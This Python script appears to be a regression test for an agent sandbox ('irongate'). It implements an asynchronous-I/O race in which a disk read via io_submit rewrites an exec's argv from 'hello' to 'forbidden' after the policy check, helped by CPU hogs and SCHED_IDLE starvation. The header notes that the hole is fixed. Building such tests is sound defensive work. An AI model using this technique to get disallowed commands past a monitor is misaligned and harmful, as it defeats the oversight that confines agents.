# Attack (review 4, fixed): asynchronous I/O the agent started writes an exec's argv while every task sharing the
# caller's memory is stopped (SECURITY_MODEL "What remains" lists io_submit as "not reproduced").
# A thread of the caller waits until the caller is inside execve (/proc/.../syscall reads 59), then
# keeps one io_submit()ed O_DIRECT read of a 256 MiB file in flight into a private anonymous
# buffer whose last page holds argv[1], putting "hello" back after each completion; the file has
# "forbidden" there. Wherever the freeze stops that thread (inside io_submit or io_getevents), a
# read is under way and the disk reaches the last page ~90 ms after its submission ended, after the
# re-check. The caller (SCHED_IDLE, both cores kept busy by processes that share nothing with it,
# a 2000-entry environment copied before argv) reaches the kernel's copy of argv after that but
# well within the freeze's one second: the stopped thread is only let go by the exec's own
# de_thread (wait_exec sees own_gone), so the write came from the disk alone.
# Mode "plain" is the control (normal scheduling: argv is copied before the disk gets there).
# irongate: {"args": ["--profile", "trusted", "--policy", "{ROOT}/integration/policies/bypass_trusted.json"], "exit": 0, "timeout": 240, "stdout": ["forbidden_printed=0 "]}
# no-event: {"decision": "allow", "action": {"type": "process", "argv": ["echo", "forbidden"]}}
import ctypes, os, sys, threading, time, select, resource
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
from child_output import output_until  # noqa: E402
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.syscall.restype = ctypes.c_long
MODE = sys.argv[1] if len(sys.argv) > 1 else "aio"
LEN = int(os.environ.get("R4_AIO_MB", "256")) << 20
ATTEMPTS = int(sys.argv[2]) if len(sys.argv) > 2 else 2
HOGS = int(os.environ.get("R4_HOGS", "3"))
MAP_PRIVATE, MAP_ANON, MAP_FIXED_NOREPLACE = 0x02, 0x20, 0x100000
B = 0x7e0000000000
ENV = int(os.environ.get("R4_ENV", "2000"))

def attempt():
    r_out, w_out = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(w_out, 1); os.dup2(w_out, 2)
        # The DMA target: a private anonymous buffer; its last page holds argv[1].
        buf = libc.mmap(None, LEN, 3, MAP_PRIVATE | MAP_ANON, -1, 0)
        word = buf + LEN - 4096
        ctypes.memmove(word, b"hello\0\0\0\0\0", 10)
        m = libc.mmap(B, 0x4000 + 8 * (ENV + 1) + 4096, 3, MAP_PRIVATE | MAP_ANON | MAP_FIXED_NOREPLACE, -1, 0)
        if m != B:
            os.write(1, b"MMAP-FAILED\n"); os._exit(1)
        ctypes.memmove(B + 0x1100, b"echo\0", 5)
        ctypes.memmove(B + 0x1200, b"/usr/bin/echo\0", 14)
        argv = (ctypes.c_uint64 * 3).from_address(B + 0x2000)
        argv[0], argv[1], argv[2] = B + 0x1100, word, 0
        # A modest environment: the starved caller's kernel copy of it comes before argv.
        ctypes.memmove(B + 0x1300, b"A=1\0", 4)
        envp = (ctypes.c_uint64 * (ENV + 1)).from_address(B + 0x4000)
        envp[:ENV] = [B + 0x1300] * ENV
        envp[ENV] = 0
        fd = os.open(DATA, os.O_RDONLY | os.O_DIRECT)
        ctx = ctypes.c_ulong(0)
        if libc.syscall(206, 8, ctypes.byref(ctx)) != 0:
            os.write(1, b"IO_SETUP-FAILED errno=%d\n" % ctypes.get_errno()); os._exit(1)
        iocb = (ctypes.c_uint64 * 8)()
        # aio_data, key|rw_flags, opcode(PREAD=0)|reqprio|fildes, buf, nbytes, offset, res2, flags|resfd
        iocb[2] = fd << 32
        iocb[3], iocb[4], iocb[5] = buf, LEN, 0
        iocbp = (ctypes.c_uint64 * 1)(ctypes.addressof(iocb))
        tid = threading.get_native_id()
        sysfd = os.open("/proc/self/task/%d/syscall" % tid, os.O_RDONLY)
        ready = threading.Event()
        evs = (ctypes.c_uint64 * 4)()
        def submitter():
            ready.set()
            deadline = time.monotonic() + 10
            while time.monotonic() < deadline:
                if os.pread(sysfd, 64, 0).startswith(b"59 "):
                    break
            # The caller is in execve, waiting for its answer. Keep one read of the file into
            # the buffer in flight, putting "hello" back after each: whenever this thread is
            # stopped (most likely inside io_submit or io_getevents), a read is under way
            # and the disk writes "forbidden" into argv[1] ~90 ms after the submission ends.
            while time.monotonic() < deadline:
                ctypes.memmove(word, b"hello\0\0\0\0\0", 10)
                if libc.syscall(209, ctx, 1, iocbp) != 1:
                    os.write(2, b"IO_SUBMIT-FAILED errno=%d\n" % ctypes.get_errno())
                    return
                while libc.syscall(208, ctx, 1, 1, evs, None) != 1:
                    pass
        threading.Thread(target=submitter, daemon=True).start()
        ready.wait()
        if MODE == "aio":
            os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
        libc.syscall(59, ctypes.c_uint64(B + 0x1200), ctypes.c_uint64(B + 0x2000), ctypes.c_uint64(B + 0x4000))
        os.write(1, b"EXECVE-FAILED errno=%d\n" % ctypes.get_errno())
        os._exit(1)
    os.close(w_out)
    return output_until(r_out, pid, 10)

counts = {"forbidden": 0, "hello": 0, "failed": 0, "other": 0}
t0 = time.time()
hogs = []
# The file: its page at the buffer's last page says "forbidden".
DATA = "/tmp/ig_r4_aio_%d.bin" % os.getpid()
with open(DATA, "wb") as f:
    chunk = b"\0" * (1 << 20)
    for _ in range(LEN >> 20):
        f.write(chunk)
    f.seek(LEN - 4096)
    f.write(b"forbidden\0")
    f.flush()
    os.fsync(f.fileno())
if MODE == "aio":
    # Processes of their own (no memory or cwd shared: never stopped by the exec freeze) that
    # keep both cores busy, so the starved caller's kernel copy of its large environment takes
    # longer than the freeze's one-second bound.
    for _ in range(HOGS):
        h = os.fork()
        if h == 0:
            while True:
                pass
        hogs.append(h)
for _ in range(ATTEMPTS):
    out = attempt()
    if b"forbidden" in out: counts["forbidden"] += 1
    elif b"hello" in out: counts["hello"] += 1
    elif b"EXECVE-FAILED" in out: counts["failed"] += 1
    else: counts["other"] += 1
    if time.time() - t0 > 150: break
for h in hogs:
    os.kill(h, 9)
os.unlink(DATA)
print("mode=%s attempts=%d forbidden_printed=%d hello=%d execve_failed=%d other=%d secs=%.1f" % (
    MODE, sum(counts.values()), counts["forbidden"], counts["hello"], counts["failed"],
    counts["other"], time.time() - t0), flush=True)
